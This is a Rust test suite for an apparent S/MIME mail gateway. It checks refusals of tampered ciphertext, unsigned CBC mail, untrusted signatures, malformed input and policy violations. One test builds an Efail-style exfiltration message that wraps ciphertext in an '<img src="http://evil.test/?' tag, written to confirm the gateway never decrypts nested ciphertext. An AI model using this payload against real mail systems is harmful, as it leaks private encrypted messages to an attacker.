#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]
//! What `reseal process` must refuse, and how: the rules of SECURITY.md, "Invariants" that apply to
//! S/MIME, bad input, and policy refusals. Every failure gives one clear line on stderr,
//! the right sysexits code, and nothing on stdout.

mod common;

use common::*;

const SECRET: &[u8] = b"Please transfer 100 EUR to account 12345";

fn refused(out: &std::process::Output, code: i32, what: &str) {
    assert_eq!(out.status.code(), Some(code), "{what}: {}", stderr(out));
    assert!(
        out.stdout.is_empty(),
        "{what}: nothing may reach stdout on failure"
    );
    let err = stderr(out);
    assert_eq!(
        err.trim().lines().count(),
        1,
        "{what}: one line on stderr: {err}"
    );
    // RFC 4902 §3.1: the reply carries trace data (system URI and privacy policy).
    assert!(
        err.contains("[OPES ") && err.contains("policy="),
        "{what}: {err}"
    );
}

/// SECURITY.md invariant 3: every decryption and integrity failure gives the same reply text
/// and code: tampered GCM tag or ciphertext, bad CBC padding, CBC without an inner
/// signature, a tampered signature or signed body. Mail whose RecipientInfos name no key
/// the gateway holds is told so, distinctly: that is read from public data before any
/// decryption, so it is no oracle (docs/architecture.md, "Mail encrypted to someone
/// else").
#[test]
fn rule3_one_reply_for_every_decryption_and_integrity_failure() {
    let f = Fixture::new();
    let mut replies = Vec::new();
    for vector in [
        "openssl-enc-gcm-tampered-tag.eml",
        "openssl-enc-gcm-tampered-ct.eml",
        "openssl-enc-cbc-tampered-padding.eml",
        "openssl-enc-aes256cbc.eml",
        "openssl-signed-tampered-sig.eml",
        "openssl-signed-tampered-body.eml",
    ] {
        let out = f.process(
            &read(vector),
            "alice@example.com",
            &["bob@example.org"],
            None,
        );
        refused(&out, 77, vector);
        replies.push((vector, reply_without_trace(&out)));
    }
    let first = replies[0].1.clone();
    assert!(first.starts_with("554 5.7.5 "), "{first}");
    for (vector, r) in &replies {
        assert_eq!(r, &first, "{vector} must give the uniform reply");
    }
    let out = f.process(
        &read("openssl-enc-to-bob-only.eml"),
        "alice@example.com",
        &["bob@example.org"],
        None,
    );
    refused(&out, 77, "to bob only");
    assert_eq!(
        reply_without_trace(&out),
        format!("554 5.7.1 {}", reseal::error::FOREIGN_ENCRYPTION_TEXT)
    );
}

/// SECURITY.md invariant 1: a failed GCM tag releases nothing; rule 2: CBC is accepted only
/// when a valid inner signature covers the whole decrypted entity.
#[test]
fn rule2_cbc_needs_an_inner_signature_or_is_refused_by_policy() {
    let f = Fixture::new();
    // Encrypt-only CBC (openssl, gpgsm, several key transports): refused.
    for vector in [
        "openssl-enc-aes128cbc.eml",
        "openssl-enc-aes192cbc.eml",
        "openssl-enc-oaep.eml",
        "openssl-enc-oaep-sha256.eml",
        "openssl-enc-multi.eml",
        "gpgsm-enc.eml",
    ] {
        let out = f.process(
            &read(vector),
            "alice@example.com",
            &["bob@example.org"],
            None,
        );
        refused(&out, 77, vector);
    }
    // Signed then CBC-encrypted: accepted by default ...
    let out = f.process(
        &read("openssl-sign-then-enc-cbc.eml"),
        "alice@example.com",
        &["bob@example.org"],
        None,
    );
    ok(&out, "sign-then-enc cbc");
    // ... and refused when the operator says `refuse`.
    let cfg = f.config("[smime]\nunauthenticated_cbc = \"refuse\"\n");
    let out = f.process(
        &read("openssl-sign-then-enc-cbc.eml"),
        "alice@example.com",
        &["bob@example.org"],
        Some(&cfg),
    );
    refused(&out, 77, "cbc refuse");
    assert!(stderr(&out).contains("5.7.6"), "{}", stderr(&out));
    // GCM with OAEP key transport opens fine (rule 2 is about CBC only).
    let out = f.process(
        &read("openssl-enc-gcm.eml"),
        "alice@example.com",
        &["bob@example.org"],
        None,
    );
    ok(&out, "gcm");
}

/// SECURITY.md invariant 4: ciphertext nested in an otherwise plain message is never decrypted
/// (Efail direct exfiltration, REPLY attacks).
#[test]
fn rule4_nested_ciphertext_is_never_decrypted() {
    let f = Fixture::new();
    let enc = String::from_utf8(read("openssl-enc-gcm.eml")).unwrap();
    let enc_entity = String::from_utf8(inner_entity(enc.as_bytes())).unwrap();
    for wrapper in ["multipart/mixed", "message/rfc822"] {
        let msg = if wrapper == "multipart/mixed" {
            format!(
                "From: Alice <alice@example.com>\r\nTo: bob@example.org\r\nSubject: hi\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"X\"\r\n\r\n--X\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n--X\r\n{enc_entity}\r\n--X\r\nContent-Type: text/html\r\n\r\n\">\r\n--X--\r\n"
            )
        } else {
            format!(
                "From: Alice <alice@example.com>\r\nTo: bob@example.org\r\nSubject: fwd\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n{enc}"
            )
        };
        let out = f.process(
            msg.as_bytes(),
            "alice@example.com",
            &["bob@example.org"],
            None,
        );
        ok(&out, wrapper);
        assert!(
            !contains(&out.stdout, SECRET),
            "{wrapper}: plaintext leaked"
        );
        let dec = openssl_decrypt(&out.stdout, "bob").unwrap();
        assert!(
            !contains(&dec, SECRET),
            "{wrapper}: nested ciphertext was decrypted"
        );
        assert!(
            contains(&dec, b"application/pkcs7-mime"),
            "{wrapper}: nested part kept as is"
        );
    }
}

/// SECURITY.md invariant 5: only a signature by the single From address counts; anything else
/// is refused with its reason (never re-signed).
#[test]
fn rule5_untrusted_or_misattributed_signatures_are_refused_with_reason() {
    let f = Fixture::new();
    for (vector, from, reason) in [
        (
            "openssl-signed-by-mallory.eml",
            "alice@example.com",
            "not trusted",
        ),
        (
            "openssl-signed-expired.eml",
            "expired@example.com",
            "expired",
        ),
        (
            "openssl-signed-tlsonly.eml",
            "tlsonly@example.com",
            "e-mail protection",
        ),
        (
            "openssl-signed-wrong-from.eml",
            "carol@example.com",
            "is not the From address",
        ),
    ] {
        let out = f.process(&read(vector), from, &["bob@example.org"], None);
        refused(&out, 77, vector);
        let err = stderr(&out);
        assert!(
            err.starts_with("554 5.7.1 ") && err.contains(reason),
            "{vector}: {err}"
        );
    }
    // Two From fields: no single From, so the signature cannot be attributed.
    let two_from = [
        b"From: Carol <carol@example.com>\r\n".as_slice(),
        &read("openssl-signed-plain.eml"),
    ]
    .concat();
    let out = f.process(&two_from, "alice@example.com", &["bob@example.org"], None);
    refused(&out, 77, "two From fields");
    assert!(
        stderr(&out).contains("exactly one From"),
        "{}",
        stderr(&out)
    );
}

/// SECURITY.md invariant 6: the gateway signs only for the envelope sender its key is
/// delegated for, and only when From equals the envelope sender.
#[test]
fn rule6_no_signature_when_from_or_sender_do_not_match() {
    let f = Fixture::new();
    // From is alice, envelope sender is carol: no delegated key signs.
    let out = f.process(
        &read("msg-plain.eml"),
        "carol@example.com",
        &["bob@example.org"],
        None,
    );
    ok(&out, "sender carol");
    let dec = openssl_decrypt(&out.stdout, "bob").unwrap();
    assert!(!contains(&dec, b"multipart/signed"), "must not be signed");
    // Envelope sender is alice (key delegated), but From says carol: still unsigned.
    let msg = String::from_utf8(read("msg-plain.eml"))
        .unwrap()
        .replace("Alice <alice@example.com>", "Carol <carol@example.com>");
    let out = f.process(
        msg.as_bytes(),
        "alice@example.com",
        &["bob@example.org"],
        None,
    );
    ok(&out, "From carol");
    let dec = openssl_decrypt(&out.stdout, "bob").unwrap();
    assert!(!contains(&dec, b"multipart/signed"), "must not be signed");
}

#[test]
fn required_encryption_without_certificate_names_the_recipient() {
    let f = Fixture::new();
    let cfg = f.config("[policy.domain.\"example.com\"]\nencrypt = \"required\"\n");
    let out = f.process(
        &read("msg-plain.eml"),
        "alice@example.com",
        &["bob@example.org", "carol@example.com"],
        Some(&cfg),
    );
    refused(&out, 77, "required");
    let err = stderr(&out);
    assert!(
        err.starts_with("554 5.7.") && err.contains("<carol@example.com>"),
        "{err}"
    );
    assert!(
        !err.contains("bob@example.org"),
        "only the recipient without a certificate: {err}"
    );
}

#[test]
fn encrypted_mail_is_never_downgraded_to_plaintext() {
    // carol has no certificate: the decrypted message cannot be re-encrypted to her,
    // and `preserve_encryption` (default) refuses rather than send it in clear.
    let f = Fixture::new();
    let out = f.process(
        &read("openssl-enc-gcm.eml"),
        "alice@example.com",
        &["carol@example.com"],
        None,
    );
    refused(&out, 77, "downgrade");
    assert!(stderr(&out).contains("<carol@example.com>"));
}

#[test]
fn malformed_input_is_65_with_one_line() {
    let f = Fixture::new();
    let multi3 = "From: alice@example.com\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\r\n\r\n--b\r\n\r\na\r\n--b\r\n\r\nb\r\n--b\r\n\r\nc\r\n--b--\r\n";
    let unterminated = "From: alice@example.com\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\r\n\r\n--b\r\n\r\na\r\n--b\r\n\r\nb\r\n";
    let dup_ct = "From: alice@example.com\r\nContent-Type: text/plain\r\nContent-Type: application/pkcs7-mime\r\n\r\nx\r\n";
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "no header",
            b"just some text\r\nwithout headers\r\n".to_vec(),
        ),
        ("empty", Vec::new()),
        ("binary garbage", (0..=255u8).cycle().take(5000).collect()),
        ("three-part multipart/signed", multi3.as_bytes().to_vec()),
        (
            "unterminated multipart/signed",
            unterminated.as_bytes().to_vec(),
        ),
        ("duplicate Content-Type", dup_ct.as_bytes().to_vec()),
        ("truncated CMS", read("openssl-enc-truncated.eml")),
        ("garbage CMS", read("openssl-enc-garbage.eml")),
    ];
    for (what, input) in cases {
        let out = f.process(&input, "alice@example.com", &["bob@example.org"], None);
        refused(&out, 65, what);
    }
}

#[test]
fn limits_and_configuration_errors() {
    let f = Fixture::new();
    let cfg = f.config("[limits]\nmax_message_bytes = 1000\n");
    let out = f.process(
        &read("msg-attach.eml"),
        "alice@example.com",
        &["bob@example.org"],
        Some(&cfg),
    );
    refused(&out, 77, "too big");
    assert!(stderr(&out).contains("5.3.4"));
    // A configuration typo is a configuration error (78) that names the key.
    let cfg = f.config("[policy]\nencrypt = \"sometimes\"\n");
    let out = f.process(
        &read("msg-plain.eml"),
        "alice@example.com",
        &["bob@example.org"],
        Some(&cfg),
    );
    assert_eq!(out.status.code(), Some(78), "{}", stderr(&out));
    assert!(stderr(&out).contains("encrypt"));
    // A wrong passphrase is a configuration error, not a crash.
    let mut c = reseal();
    c.env("RESEAL_PASSPHRASE", "wrong")
        .args([
            "process",
            "--mail-from",
            "alice@example.com",
            "--rcpt",
            "bob@example.org",
            "--keystore",
        ])
        .arg(f.keystore());
    let out = run(c, &read("msg-plain.eml"));
    assert_eq!(out.status.code(), Some(78));
    assert!(stderr(&out).contains("wrong passphrase"));
    assert!(out.stdout.is_empty());
}

#[test]
fn no_keystore_means_trace_only_and_untouched_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let mut c = reseal();
    c.env("RESEAL_DATA_DIR", dir.path()).args([
        "process",
        "--mail-from",
        "alice@example.com",
        "--rcpt",
        "bob@example.org",
    ]);
    let input = read("msg-plain.eml");
    let out = run(c, &input);
    ok(&out, "no keystore");
    // RFC 5321 §4.4: a Received line is prepended, and nothing else changes.
    assert!(out.stdout.starts_with(b"Received: by "));
    assert!(
        out.stdout.ends_with(&input),
        "the original message follows byte for byte"
    );
    let h = header_block(&out.stdout);
    assert_eq!(h.matches("\r\nOPES-System: ").count(), 1, "{h}");
}
